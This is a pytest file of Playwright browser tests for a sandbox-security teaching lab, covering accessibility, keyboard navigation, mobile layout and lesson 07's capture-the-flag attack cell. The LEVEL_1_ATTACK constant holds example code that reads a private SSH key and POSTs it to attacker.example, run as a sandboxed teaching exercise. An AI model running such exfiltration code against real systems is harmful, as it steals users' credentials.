"""The learner lab in a real browser: every lesson runs top to bottom unanswered and passes axe-core; keyboard alone
drives a prediction and a policy editor; lesson 02 reads at 414 px; lesson 07's ``%%attack`` cell captures a flag in Docker; the lab shows no
instructor tools; links work.

The lab is what ``make lab`` and Binder serve: the learners' notebooks as
``scripts/learner-lessons`` writes them (no answers filled in), with the learner
lab's configuration (``binder/learner-lab``), and the static backend as on
Binder: every view is drawn as with Docker (only the words on how outcomes were
obtained differ), a lesson runs in seconds instead of minutes, and real runs in
the browser are test_lab_e2e.py's. axe-core is
the npm package pinned in ``tools/axe`` (``scripts/ensure-browser`` installs it),
injected into the page by Playwright after Run All, with every ``<details>``
opened. A serious or critical WCAG 2 A/AA violation in what the lesson owns (its
text and every output its cells wrote) fails the lesson, each reported with its
rule id and targets; those in JupyterLab's own parts of the notebook (cell
editors, prompts, the cell list) are recorded, not failed: the course cannot
change them. Every violation found (any impact, either owner) is written to
``artifacts/a11y/<lesson>.json``.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from labdriver import (NOTEBOOK, ROOT, RUN_ALL_MS, Lab, axe_violations, chromium, connection_error, diagnosis, jupyterlab, never_run,
                       open_notebook, require_browser, run_all, serious, wait_idle)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

LESSONS = sorted(str(p.relative_to(ROOT / "lessons").with_suffix(".ipynb")) for p in (ROOT / "lessons").glob("0*/*.md"))
REPORTS = ROOT / "artifacts" / "a11y"

# Lessons known to stop Run All with nothing answered: none (lesson 05's graded answers no longer raise in the
# released copy). A lesson added here is an expected failure of the "never stops" assertion only.
STOPS_TODAY: set[str] = set()

# A policy typed into lesson 03's editor by keyboard: no home directory readable, no network (lesson 01's goal).
TYPED_POLICY = '{"filesystem": {"denyRead": ["/home/user"]}, "network": {"allowedDomains": []}}'



def test_the_lessons_are_the_eight_of_the_course() -> None:
    assert [p.split("/")[0][:2] for p in LESSONS] == ["00", "01", "02", "03", "04", "05", "06", "07"], LESSONS


@pytest.fixture(scope="module")
def learner(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The learners' notebooks, as ``make lab`` builds them (scripts/learner-lessons)."""
    require_browser(axe=True)
    out = tmp_path_factory.mktemp("learner-lab") / "learner"
    done = subprocess.run(["scripts/learner-lessons", str(out)], cwd=ROOT, env={**os.environ, "PYTHON": sys.executable},
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stdout + done.stderr
    return out


@pytest.fixture(scope="module")
def lab(learner: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    with jupyterlab(learner, tmp_path_factory.mktemp("jupyter"), learner=True, backend="static") as running:
        yield running


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    require_browser(axe=True)
    with chromium(tmp_path_factory.mktemp("chromium") / "profile") as context:
        yield context


@pytest.fixture()
def page(browser: Any, lab: Lab) -> Iterator[Any]:
    page = browser.new_page()
    try:
        yield page
    finally:
        page.close()
        lab.shut_down_kernels()


@pytest.mark.parametrize("lesson", LESSONS, ids=[p.split("/")[0] for p in LESSONS])
def test_lesson_runs_all_unanswered_and_has_no_serious_wcag_violation(lab: Lab, page: Any, lesson: str) -> None:
    open_notebook(page, lab.url(lesson), lab)
    run_all(page)
    found = axe_violations(page, NOTEBOOK)
    REPORTS.mkdir(parents=True, exist_ok=True)
    (REPORTS / f"{lesson.split('/')[0]}.json").write_text(json.dumps(found, indent=1))
    bad = serious(found)
    assert not bad, f"{lesson}: {len(bad)} serious or critical WCAG 2 A/AA violations:\n" + "\n".join(bad)

    stopped = never_run(page)
    if stopped and lesson in STOPS_TODAY:
        pytest.xfail(f"{lesson} still stops Run All (see STOPS_TODAY): " + "; ".join(stopped[:3]))
    assert not stopped, f"Run All with nothing answered stopped in {lesson}:\n" + "\n".join(stopped)


def test_axe_finds_a_violation_planted_in_an_output_even_inside_a_closed_details(lab: Lab, page: Any) -> None:
    """The check can fail: a nameless button in a lesson's output, hidden in a closed <details>, is reported as the lesson's."""
    open_notebook(page, lab.url(LESSONS[0]), lab)
    run_all(page)
    page.evaluate(
        """n => { const out = document.querySelector(n + ' .jp-OutputArea-output');
                  const d = document.createElement('details');
                  d.innerHTML = '<summary>more</summary><button class="sl-planted"></button>';
                  out.appendChild(d); }""", NOTEBOOK)
    bad = serious(axe_violations(page, NOTEBOOK))
    assert any(line.startswith("button-name [critical]") and "sl-planted" in line for line in bad), bad


def _texts(scope: Any, selector: str) -> str:
    """The text of every element ``selector`` finds inside ``scope``, joined: for a failure's message."""
    return " | ".join(t.strip() for t in scope.locator(selector).all_inner_texts())


def _focused(page: Any) -> str:
    """What has the keyboard focus: its tag, classes and text, for assertions and messages."""
    return str(page.evaluate(
        "() => { const e = document.activeElement; return e ? `${e.tagName.toLowerCase()}.${[...e.classList].join('.')}"
        " ${(e.closest('.widget-checkbox, .sl-prediction-quiz, .sl-policy-editor') || e).className}` : '' }"))


def test_keyboard_alone_drives_a_prediction(lab: Lab, page: Any) -> None:
    """Lesson 03's prediction: tick the first and last probes with Space, Tab to the button, run it with Enter."""
    open_notebook(page, lab.url("03-container-alone/container-alone.ipynb"), lab)
    run_all(page)

    # The prediction: the keyboard starts on its first probe (where Tab from the cell above lands).
    quiz = page.locator(".sl-prediction-quiz").first
    boxes = quiz.locator(".sl-prediction-probe input[type=checkbox]")
    count = boxes.count()
    assert count >= 2, count
    boxes.first.focus()
    page.keyboard.press("Space")
    for _ in range(count - 1):
        page.keyboard.press("Tab")
    page.keyboard.press("Space")  # the last probe
    ticked = [boxes.nth(i).is_checked() for i in range(count)]
    assert ticked == [True] + [False] * (count - 2) + [True], ticked
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement.matches('.sl-prediction-button, .sl-prediction-button *')"), _focused(page)
    page.keyboard.press("Enter")
    result = quiz.locator(".sl-prediction[data-judged]")
    result.wait_for(state="attached", timeout=120_000)
    rows = result.locator("tr[data-probe]")
    predicted = [rows.nth(i).get_attribute("data-predicted") for i in range(rows.count())]
    assert predicted == ["succeeded"] + ["blocked"] * (count - 2) + ["succeeded"], predicted


def _in(page: Any, selector: str) -> bool:
    return bool(page.evaluate("s => !!document.activeElement && !!document.activeElement.closest(s)", selector))


def test_keyboard_alone_edits_runs_and_leaves_a_policy_editor(lab: Lab, page: Any) -> None:
    """Lesson 03's editor by keyboard: from the cell above, J then Tab into the text; type a policy; Tab to "Probe"
    (also while the text is invalid: a disabled button would leave the Tab order, and Tab would land in the next
    cell's text box); Enter runs it; Tab leaves the widget forwards, into what follows it."""
    open_notebook(page, lab.url("03-container-alone/container-alone.ipynb"), lab)
    run_all(page)
    editor = page.locator(".sl-policy-editor").first
    index = page.evaluate(f"() => [...document.querySelectorAll('{NOTEBOOK} .jp-Cell')]"
                          ".indexOf(document.querySelector('.sl-policy-editor').closest('.jp-Cell'))")
    assert index > 0, index
    # Where a keyboard user stands after reading the cell above: that cell selected, in command mode.
    page.locator(f"{NOTEBOOK} .jp-Cell").nth(index - 1).locator(".jp-Cell-inputCollapser, .jp-InputPrompt").first.click()
    page.keyboard.press("j")  # JupyterLab: select the next cell (the editor's)
    # Under load the key is handled late: Tab only once the editor's cell is the active one. JupyterLab then
    # focuses that cell (command mode), where a keyboard user stands; when a late re-render has taken the focus
    # elsewhere (seen at load 20: Tab went to the toolbar), put it back on the cell as JupyterLab does.
    active = (f"document.querySelectorAll('{NOTEBOOK} .jp-Cell')[{index}]")
    page.wait_for_function(f"() => {active}.classList.contains('jp-mod-active')", timeout=30_000)
    try:
        page.wait_for_function(f"() => {active}.contains(document.activeElement)", timeout=5_000)
    except Exception:  # playwright's TimeoutError: the focus was lost, not the keyboard path
        page.evaluate(f"() => {active}.focus()")
    # Tab into the text: past the cell's own toolbar (move, duplicate, delete) where JupyterLab shows it on the
    # active cell, never out of the cell
    for _ in range(8):
        page.keyboard.press("Tab")
        if _in(page, ".sl-policy-editor .sl-policy-text"):
            break
        assert page.evaluate(f"() => {active}.contains(document.activeElement)"), _focused(page)
    assert _in(page, ".sl-policy-editor .sl-policy-text"), _focused(page)

    text = editor.locator(".sl-policy-text textarea")
    button = editor.locator("button.sl-probe-button")
    # An invalid policy: the status names the problem, and Tab still reaches the button, which runs nothing.
    page.keyboard.press("Control+A")
    page.keyboard.type('{"filesystem": {"denyReed": []}}')
    editor.locator(".sl-policy-status", has_text="denyReed").wait_for(timeout=30_000)
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement.matches('.sl-probe-button')"), _focused(page)
    page.keyboard.press("Enter")
    editor.locator(".sl-backend-note", has_text="Fix the errors above first").wait_for(timeout=30_000)
    assert editor.locator(".sl-probe-board .sl-board[data-sandbox]").count() == 0

    # Back into the text, the policy typed in full, and straight on to the button (no wait for the kernel's check).
    page.keyboard.press("Shift+Tab")
    assert _in(page, ".sl-policy-text"), _focused(page)
    page.keyboard.press("Control+A")
    page.keyboard.type(TYPED_POLICY)
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement.matches('.sl-probe-button')"), _focused(page)
    assert json.loads(text.input_value()) == json.loads(TYPED_POLICY)
    page.keyboard.press("Enter")
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    board = editor.locator(".sl-probe-board .sl-board[data-sandbox]")
    try:
        board.wait_for(state="attached", timeout=120_000)
    except PlaywrightTimeout:
        # what the editor shows instead (an error in place of the board, a stale status) says why
        raise AssertionError(
            f"no board 120 s after Enter; the editor's note: {_texts(editor, '.sl-backend-note')!r}, "
            f"its status: {_texts(editor, '.sl-policy-status')!r}, its board area: {_texts(editor, '.sl-probe-board')[:600]!r}, "
            f"the button enabled: {button.is_enabled()}"
        ) from None
    assert editor.locator('.sl-probe-board tr[data-probe="read-ssh-key"]').first.get_attribute("data-outcome") == "blocked"
    assert button.is_enabled()

    # Out past the widget: Tab goes through the board's details and then leaves the editor, forwards.
    for _ in range(25):
        page.keyboard.press("Tab")
        if not _in(page, ".sl-policy-editor"):
            break
    assert not _in(page, ".sl-policy-editor"), f"25 presses of Tab never left the editor: {_focused(page)}"
    after = page.evaluate("() => !!(document.querySelector('.sl-policy-editor').compareDocumentPosition(document.activeElement)"
                          " & Node.DOCUMENT_POSITION_FOLLOWING)")
    assert after, _focused(page)


# Lesson 07's level 1 (the plain container), typed into its ``%%attack 1`` cell: read the key, POST it out.
LEVEL_1_ATTACK = [
    "import urllib.request as u",
    'key = open("/home/user/.ssh/id_rsa", "rb").read()',
    'print(u.urlopen(u.Request("https://attacker.example/loot", data=key), timeout=5).status)',
]


@pytest.fixture(scope="module")
def docker_lab(learner: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    """The learner lab as ``make lab`` serves it with Docker: lesson 07's attacks run in real sandboxes."""
    with jupyterlab(learner, tmp_path_factory.mktemp("jupyter-docker"), learner=True, backend="docker") as running:
        yield running


def _active_cell_text(page: Any) -> str:
    return str(page.evaluate(
        f"() => {{ const c = document.querySelector('{NOTEBOOK} .jp-Cell.jp-mod-active');"
        " return c ? [...c.querySelectorAll('.jp-InputArea-editor .cm-line')].map(l => l.textContent).join('\\n') : ''; }"))


@pytest.fixture(scope="module")
def remote_lab(learner: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Lab, str]]:
    """The learner lab of a machine without Docker's use (Binder, a hub's user pod): ``SANDBOX_LAB_BACKEND=remote``,
    its attacks sent to a run service of the test's own (Redis, a worker on this engine, the API)."""
    from service_stack import ServiceStack

    stack = ServiceStack(workers=1)
    try:
        env = {"SANDBOX_LAB_SERVICE_URL": stack.url, "SANDBOX_LAB_TOKEN": stack.token}
        with jupyterlab(learner, tmp_path_factory.mktemp("jupyter-remote"), learner=True, backend="remote",
                        extra_env=env) as running:
            yield running, stack.url
    finally:
        stack.close()


@pytest.mark.docker
def test_an_attack_cell_run_by_keyboard_captures_level_1_in_docker(docker_lab: Lab, browser: Any) -> None:
    """Lesson 07 by keyboard: Shift-Enter through the lesson (its setup cell registers ``%%attack``) to the
    ``%%attack 1`` cell; Enter, select all, type an attack, Shift-Enter: the flag is captured in Docker."""
    _capture_level_1(docker_lab, browser, "lesson-07-attack-cell-level-1.png")


@pytest.mark.docker
def test_an_attack_cell_captures_level_1_through_the_run_service(remote_lab: tuple[Lab, str], browser: Any) -> None:
    """The same keyboard path with ``SANDBOX_LAB_BACKEND=remote``: the attack runs in a real sandbox on the
    service's worker, and the captured flag comes back as evidence the kernel reads strictly."""
    lab, _url = remote_lab
    _capture_level_1(lab, browser, "lesson-07-attack-cell-level-1-remote.png")


def _capture_level_1(lab: Lab, browser: Any, screenshot: str) -> None:
    page = browser.new_page()
    docker_lab = lab
    try:
        open_notebook(page, docker_lab.url("07-break-it-yourself/break-it.ipynb"), docker_lab)
        page.locator(f"{NOTEBOOK} .jp-Cell").first.locator(".jp-Cell-inputCollapser, .jp-InputPrompt").first.click()
        for _ in range(30):  # each Shift-Enter runs the selected cell (the setup's code, or a Markdown cell) and moves on
            if _active_cell_text(page).startswith("%%attack 1"):
                break
            page.keyboard.press("Shift+Enter")
        else:
            raise AssertionError(f"Shift-Enter never reached the %%attack 1 cell: {_active_cell_text(page)[:80]!r}")
        index = page.evaluate(f"() => [...document.querySelectorAll('{NOTEBOOK} .jp-Cell')]"
                              f".indexOf(document.querySelector('{NOTEBOOK} .jp-Cell.jp-mod-active'))")
        cell = page.locator(f"{NOTEBOOK} .jp-Cell").nth(index)  # this cell, not whichever is active after Shift-Enter
        page.keyboard.press("Enter")  # edit mode
        page.keyboard.press("Control+A")
        page.keyboard.type("%%attack 1")
        for line in LEVEL_1_ATTACK:
            page.keyboard.press("Enter")
            page.keyboard.type(line)
        typed = _active_cell_text(page).splitlines()
        assert typed == ["%%attack 1", *LEVEL_1_ATTACK], typed  # what the editor holds (no doubled brackets)
        page.keyboard.press("Shift+Enter")
        outcome = cell.locator(".sl-attack-outcome[data-captured]")
        outcome.wait_for(state="attached", timeout=RUN_ALL_MS)
        text = outcome.inner_text()
        assert outcome.get_attribute("data-captured") == "true", text
        assert "Captured" in text and "attacker.example" in text and "FLAG{" in text, text
        REPORTS.parent.joinpath("screenshots").mkdir(parents=True, exist_ok=True)
        cell.screenshot(path=str(REPORTS.parent / "screenshots" / screenshot))
    finally:
        page.close()
        docker_lab.shut_down_kernels()


# What the 414 px check measures: lesson 02's three kinds of course view.
NARROW_VIEWS = (".sl-side-by-side", ".sl-probe-board", ".sl-policy-editor")
NARROW_SHARE = 0.80  # of the viewport: JupyterLab's left activity bar (33 px) and its right one stay (see the test)


def test_lesson_02_is_readable_at_414_px(lab: Lab, page: Any) -> None:
    """A phone's width: with the file browser closed (Ctrl-B, JupyterLab's own), each board and the editor use
    most of the screen (the course's views drop the prompt column below 600 px: ``palette.NARROW_CSS``), nothing
    in them is wider than its box, and no text in them is under 12 px. Screenshots go to artifacts/a11y/."""
    page.set_viewport_size({"width": 414, "height": 900})
    open_notebook(page, lab.url("02-naive-vs-secure/naive-vs-secure.ipynb"), lab)
    run_all(page)
    if page.evaluate("() => !document.getElementById('jp-left-stack').classList.contains('lm-mod-hidden')"):
        page.locator(f"{NOTEBOOK} .jp-Cell").first.click(position={"x": 30, "y": 5})
        page.keyboard.press("Control+b")  # JupyterLab: show or hide the left sidebar
        page.wait_for_function("() => document.getElementById('jp-left-stack').classList.contains('lm-mod-hidden')")
    page.evaluate("() => document.querySelectorAll('.jp-OutputArea details').forEach(d => { d.open = true; })")
    page.wait_for_timeout(500)  # the lab lays out again
    REPORTS.mkdir(parents=True, exist_ok=True)
    measured = page.evaluate(
        """views => views.map(sel => {
             const el = document.querySelector(sel);
             if (!el) return {sel, missing: true};
             const out = el.closest('.jp-OutputArea-output');
             const overflow = [el, ...el.querySelectorAll('*')].filter(e => !e.closest('svg') && e.clientWidth > 0
                 && e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX !== 'auto')
               .map(e => `${e.tagName.toLowerCase()}.${e.className}: ${e.scrollWidth} > ${e.clientWidth}`);
             const small = [...el.querySelectorAll('*')].filter(e => !e.closest('svg')
                 && [...e.childNodes].some(n => n.nodeType === 3 && n.textContent.trim())
                 && parseFloat(getComputedStyle(e).fontSize) < 12)
               .map(e => `${e.tagName.toLowerCase()} ${getComputedStyle(e).fontSize}: ${e.textContent.trim().slice(0, 30)}`);
             return {sel, width: out.getBoundingClientRect().width, overflow: overflow.slice(0, 5), small: small.slice(0, 5)};
           })""", list(NARROW_VIEWS))
    for n, m in enumerate(measured):
        assert not m.get("missing"), m
        page.locator(m["sel"]).first.scroll_into_view_if_needed()
        page.screenshot(path=str(REPORTS / f"lesson-02-414px-{n}-{m['sel'].strip('.')}.png"))
    (REPORTS / "lesson-02-414px.json").write_text(json.dumps(measured, indent=1))
    for m in measured:
        assert m["width"] >= NARROW_SHARE * 414, f"{m['sel']}: its output is {m['width']:.0f} of 414 px"
        assert not m["overflow"], f"{m['sel']}: wider than its box at 414 px: {m['overflow']}"
        assert not m["small"], f"{m['sel']}: text under 12 px at 414 px: {m['small']}"
    # Only narrow screens change: at a desktop's width the prompt column is back.
    page.set_viewport_size({"width": 1400, "height": 900})
    page.wait_for_timeout(500)
    assert page.locator(f"{NOTEBOOK} .jp-OutputPrompt").first.is_visible()


def test_the_learner_lab_has_no_instructor_tools_but_keeps_validate(lab: Lab, page: Any) -> None:
    open_notebook(page, lab.url("00-start-here/start-here.ipynb"), lab)
    menus = [t.strip() for t in page.locator(".lm-MenuBar-item").all_inner_texts()]
    assert "Run" in menus and "Nbgrader" not in menus, menus
    labels = page.evaluate("() => [...document.querySelectorAll('.lm-TabBar-tab')].map(t => `${t.title} ${t.textContent}`)")
    assert not [t for t in labels if "Create Assignment" in t or "Formgrader" in t], labels
    # nbgrader is loaded (its learner-side Validate button is there), so the absence above is the configuration's.
    page.locator(".jp-NotebookPanel-toolbar", has_text="Validate").first.wait_for(timeout=30_000)


def test_the_link_to_srt_differences_opens_the_document_in_the_learner_lab(lab: Lab, page: Any) -> None:
    open_notebook(page, lab.url("02-naive-vs-secure/naive-vs-secure.ipynb"), lab)
    link = page.locator(".jp-RenderedMarkdown a", has_text="docs/srt-differences.md").first
    # JupyterLab resolves ../../docs/ from the lesson's folder; above the lab's root that is the root's docs/.
    assert "docs/srt-differences.md" in (link.get_attribute("href") or ""), link.get_attribute("href")
    link.scroll_into_view_if_needed()
    link.click()
    title = (ROOT / "docs" / "srt-differences.md").read_text().splitlines()[0].lstrip("# ").strip()
    page.locator(".lm-TabBar-tab", has_text="srt-differences.md").first.wait_for(timeout=30_000)
    page.locator(".jp-FileEditor, .jp-RenderedMarkdown", has_text=title).last.wait_for(timeout=30_000)
    assert page.locator(".jp-Dialog", has_text="Cannot open").count() == 0


def test_a_choice_question_is_one_radio_group_tab_stops_once_and_the_arrow_keys_choose(learner: Path, lab: Lab, page: Any) -> None:
    """ipywidgets draws a question's options as separate, unnamed radios (a Tab stop each; ArrowDown moved the cell
    selection); ``quiz_widgets.RADIO_GROUP_JS`` makes them one group: role="radiogroup" named by the prompt, one Tab
    stop from before the options to the button after them, and ArrowDown checks the next option, in the kernel too."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook

    from grader.course.quiz import question

    q = question("retrieve-env-publish")
    nb = new_notebook(cells=[new_code_cell('from grader.notebook.widgets import Quiz\n\n'
                                           'quiz = Quiz("retrieve-env-publish", record_progress=False)\nquiz'),
                             new_code_cell("print(repr(quiz.input.value))")],
                      metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    nbformat.write(nb, learner / "radio-group.ipynb")
    open_notebook(page, lab.url("radio-group.ipynb"), lab)
    run_all(page)
    group = page.locator(f"{NOTEBOOK} .sl-quiz [role=radiogroup]")
    group.wait_for()
    assert group.count() == 1
    assert q.prompt[:40] in page.locator(f"#{group.get_attribute('aria-labelledby')}").inner_text()
    radios = group.locator("input[type=radio]")
    names = radios.evaluate_all("rs => rs.map(r => r.name)")
    assert len(names) == len(q.choices) and len(set(names)) == 1 and names[0], names

    def focused() -> str:
        return str(page.evaluate("() => document.activeElement.type === 'radio' ? 'radio ' + document.activeElement.value"
                                 " : document.activeElement.className"))

    wait_idle(page, lab)
    for _ in range(3):  # a redraw of the lab's toolbar while another worker loads the machine can take the focus
        radios.first.focus()
        page.keyboard.press("Shift+Tab")  # to whatever comes before the options
        before = focused()
        assert not before.startswith("radio"), before
        page.keyboard.press("Tab")
        if focused() == "radio 0" or "jp-Toolbar" not in focused():
            break
    assert focused() == "radio 0"  # into the group once, on its first option (none is checked yet)
    page.keyboard.press("Tab")
    assert "sl-quiz-button" in focused(), "one Tab stop: the next Tab leaves the options for the button"
    radios.first.focus()
    page.keyboard.press("ArrowDown")
    assert radios.evaluate_all("rs => rs.map(r => r.checked)") == [i == 1 for i in range(len(names))]
    assert focused() == "radio 1"
    cell = page.locator(f"{NOTEBOOK} .jp-Cell").nth(1)
    cell.click(position={"x": 30, "y": 5})
    page.keyboard.press("Shift+Enter")
    out = cell.locator(".jp-OutputArea-output")
    out.wait_for()
    from grader.course.quiz import choice_order

    assert out.inner_text().strip() == repr(choice_order(q, "")[1].key)  # the kernel holds the second option


def test_on_a_phone_the_lab_opens_with_the_lesson_using_the_width(lab: Lab, page: Any) -> None:
    """At 414 x 800 JupyterLab opened with the file browser beside the lesson, which got 96 px. The learner lab's
    ``sandbox-lab-narrow`` extension (binder/learner-lab/labextensions) collapses the left sidebar and hides the right
    activity bar on a first load at most 600 px wide: the lesson gets at least 380 px with no key pressed. A desktop's
    first load keeps JupyterLab's own layout, the file browser open."""
    width = "() => document.querySelector('.jp-NotebookPanel:not(.lm-mod-hidden)').getBoundingClientRect().width"
    left_open = "() => !document.getElementById('jp-left-stack').classList.contains('lm-mod-hidden')"
    page.set_viewport_size({"width": 414, "height": 800})
    open_notebook(page, lab.url("00-start-here/start-here.ipynb"), lab)
    page.wait_for_timeout(500)  # the lab lays out again after the plugin's collapse
    assert not page.evaluate(left_open), "the left sidebar is open at 414 px"
    assert page.evaluate(width) >= 380, f"the lesson is {page.evaluate(width):.0f} px of 414"
    page.set_viewport_size({"width": 1400, "height": 900})
    open_notebook(page, lab.url("00-start-here/start-here.ipynb"), lab)  # a fresh workspace (?reset) at a desktop's width
    page.wait_for_timeout(500)
    assert page.evaluate(left_open), "a desktop's first load keeps the file browser"


def test_a_kernel_chooser_on_the_way_is_answered_and_the_kernel_starts(learner: Path, lab: Lab, page: Any) -> None:
    """``wait_idle`` goes on through the dialog JupyterLab raises when it could not start a notebook's kernel by
    itself (on a busy machine: the session request timed out), as a learner would: Select, then Idle. A notebook
    naming a kernel the lab lacks raises the same chooser."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook

    nb = new_notebook(cells=[new_code_cell("print('started')")],
                      metadata={"kernelspec": {"name": "gone", "display_name": "Gone", "language": "cobol"}})
    nbformat.write(nb, learner / "no-such-kernel.ipynb")
    chooser = page.locator(".jp-Dialog", has_text="Select Kernel").first
    for _ in range(2):  # a loaded lab can open its Launcher instead of the notebook (``open_notebook``): once more
        page.goto(lab.url("no-such-kernel.ipynb"))
        try:
            chooser.wait_for(timeout=60_000)  # the chooser is up
            break
        except Exception as e:  # playwright's TimeoutError
            if "Timeout" not in type(e).__name__:
                raise
    else:
        pytest.fail(f"the kernel chooser never came up\n{diagnosis(page, lab)}", pytrace=False)
    wait_idle(page, lab)
    assert page.locator(".jp-Dialog").count() == 0
    run_all(page)
    assert "started" in page.locator(f"{NOTEBOOK} .jp-OutputArea").first.inner_text()


def test_a_connection_error_dialog_that_comes_up_late_is_closed_when_it_blocks_a_click(lab: Lab, page: Any) -> None:
    """A busy machine's "Server Connection Error" can come up after the kernel said Idle and stop every click
    (a CI run failed so); ``chromium``'s pages close it when it is in the way. The dialog is JupyterLab's own: the
    lab's requests to the server fail (``page.route``) until its pollers say "Server Connection Error", as they do
    when a loaded machine's server does not answer, and then go through again. Without the handler, or with one that
    looks for a button the real dialog does not have (it once looked for "Dismiss"; JupyterLab 4 says "Close"), the
    click times out."""
    open_notebook(page, lab.url("00-start-here/start-here.ipynb"), lab)
    # seen by the page itself: a locator's wait would run the handler, which closes the dialog as soon as it is up
    page.evaluate("""() => new MutationObserver((_, seen) => {
      if ([...document.querySelectorAll('.jp-Dialog')].some(d => d.innerText.includes('Server Connection Error'))) {
        window.connectionErrorSeen = true; seen.disconnect();
      }
    }).observe(document.body, {childList: true, subtree: true})""")
    page.route("**/api/**", lambda route: route.abort())
    try:
        page.wait_for_function("() => window.connectionErrorSeen === true", timeout=90_000)  # polls every 10 s
    finally:
        page.unroute("**/api/**")
    assert connection_error(page).count() == 1, "the real dialog is up, in the way of the click"
    page.locator(f"{NOTEBOOK} .jp-Cell").first.locator(".jp-Cell-inputCollapser, .jp-InputPrompt").first.click(timeout=15_000)
    assert connection_error(page).count() == 0


def test_a_theme_that_did_not_load_is_reloaded_and_the_kernel_starts(lab: Lab, page: Any) -> None:
    """A busy machine can fail the theme's stylesheet request: JupyterLab says "Error Loading Theme", and
    ``wait_idle`` reloads the page, as a learner would, and waits for the kernel. The request is failed here once
    (``page.route``); without the reload the wait fails, naming the dialog."""
    page.route("**/lab/api/themes/**/index.css", lambda route: route.abort(), times=1)
    url = lab.url("00-start-here/start-here.ipynb")
    page.goto(url)
    page.locator(".jp-Dialog", has_text="Error Loading Theme").first.wait_for(timeout=60_000)
    wait_idle(page, lab, url=url)
    assert page.locator(".jp-Dialog").count() == 0
